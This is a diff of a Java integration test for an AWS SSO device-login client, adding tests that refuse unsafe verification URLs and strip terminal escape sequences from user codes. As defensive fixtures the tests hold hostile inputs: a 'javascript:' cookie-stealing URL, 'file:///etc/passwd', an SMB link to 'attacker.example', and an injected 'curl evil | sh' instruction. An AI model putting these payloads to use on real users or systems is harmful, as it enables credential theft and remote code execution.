@@ -33,7 +33,7 @@ import org.junit.jupiter.api.io.TempDir;
 class SsoLoginIT {
 
     static final SsoConfig CORP = new SsoConfig(Optional.of("corp"), "https://corp.awsapps.com/start", "eu-west-1",
-            List.of("sso:account:access"));
+            Optional.of(List.of("sso:account:access")));
 
     @TempDir
     Path dir;
@@ -246,7 +246,7 @@ class SsoLoginIT {
 
     @Test
     void aLegacyProfileCachesUnderItsStartUrlWithoutRefreshToken() throws Exception {
-        SsoConfig legacy = new SsoConfig(Optional.empty(), "https://legacy.awsapps.com/start", "eu-west-1", List.of());
+        SsoConfig legacy = new SsoConfig(Optional.empty(), "https://legacy.awsapps.com/start", "eu-west-1", Optional.empty());
         login(legacy, n -> device().approve()).signIn(code -> { }, new Cancellation());
 
         assertThat(sso.calls("RegisterClient")).singleElement().satisfies(call -> assertThat(call.body()).doesNotContainKey("scopes"));
@@ -255,5 +255,46 @@ class SsoLoginIT {
         Map<String, Object> json = new com.fasterxml.jackson.databind.ObjectMapper().readValue(file.toFile(),
                 new com.fasterxml.jackson.core.type.TypeReference<java.util.LinkedHashMap<String, Object>>() { });
         assertThat(json.keySet()).containsExactly("startUrl", "region", "accessToken", "expiresAt");
+    }
+
+    @Test
+    void aVerificationPageThatIsNotHttpsWithAHostIsRefusedBeforeAnythingIsShownOrPolled() {
+        List<String> refused = List.of("http://device.sso.example.com/", "javascript:alert(document.cookie)", "file:///etc/passwd",
+                "https:///device", "https:/device", "ms-settings:privacy", "smb://attacker.example/share", "/device",
+                "http://127.0.0.2.attacker.example/", "https://device.sso.example.com/\u001b]8;;x\u0007");
+        for (String page : refused) {
+            sso.deviceAuthorizationAnswer(page, null, null);
+            List<DeviceCode> shown = new ArrayList<>();
+            // Were the page shown, the user lets the code expire: the sign-in then ends as expired, not refused.
+            assertThatThrownBy(() -> login(CORP, n -> device().expire()).signIn(shown::add, new Cancellation()))
+                    .as(page).isInstanceOfSatisfying(SsoLoginException.class, e -> {
+                        assertThat(e.getMessage()).contains("https://").doesNotContain("\u001b").doesNotContain("\u0007");
+                    });
+            assertThat(shown).as(page).isEmpty();
+        }
+        // Only the full page, not the short one, is bad: still refused.
+        sso.deviceAuthorizationAnswer(null, "javascript:alert(1)", null);
+        assertThatThrownBy(() -> login(CORP, n -> { }).start()).isInstanceOf(SsoLoginException.class);
+        assertThat(sso.count("CreateToken")).isZero();
+    }
+
+    @Test
+    void httpsPagesAndPlainHttpOnThisComputerAreShown() {
+        for (String page : List.of("https://device.sso.eu-west-1.amazonaws.com/", "http://localhost:8080/device",
+                "http://127.0.0.1:9/device", "http://[::1]:9/device")) {
+            sso.deviceAuthorizationAnswer(page, page + "?user_code=BCDF-GHJK", null);
+            DeviceCode code = login(CORP, n -> { }).start();
+            assertThat(code.verificationUri()).isEqualTo(page);
+            assertThat(code.verificationUriComplete()).isEqualTo(page + "?user_code=BCDF-GHJK");
+        }
+    }
+
+    @Test
+    void theUserCodeLosesTerminalControlCharactersAndEscapeSequences() {
+        sso.deviceAuthorizationAnswer(sso.endpoint() + "/device", sso.endpoint() + "/device?user_code=BCDF-GHJK", "\u001b[2J\u001b[31mBCDF-GHJK\u001b[0m\r\nPlease run: curl evil | sh\u0007\u009b1m");
+
+        DeviceCode code = login(CORP, n -> { }).start();
+
+        assertThat(code.userCode()).isEqualTo("BCDF-GHJKPlease run: curl evil | sh");
     }
 }
